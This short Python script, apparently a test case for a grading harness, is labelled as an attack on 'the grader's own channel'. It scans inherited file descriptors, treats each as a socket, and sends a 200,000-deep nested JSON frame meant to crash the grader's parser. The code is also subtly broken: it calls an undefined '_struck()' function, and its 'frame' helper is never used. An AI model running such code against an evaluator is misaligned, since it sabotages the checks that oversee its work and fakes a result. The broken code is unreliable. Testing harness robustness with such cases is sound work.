# Attack: sends a frame that is nested deeper than a parser can follow
# Expect: crashed
# Message: the grader's own channel
def _attack():
    import json, os, socket, struct

    def frame(message):
        data = json.dumps(message).encode()
        return struct.pack(">I", len(data)) + data

    def channels():
        for fd in range(3, 64):
            try:
                yield socket.socket(fileno=os.dup(fd))
            except OSError:
                pass
    data = b"[" * 200_000
    for sock in channels():
        try:
            sock.setblocking(False)
            _struck()
            sock.send(struct.pack(">I", len(data)) + data)
        except OSError:
            pass


_attack()
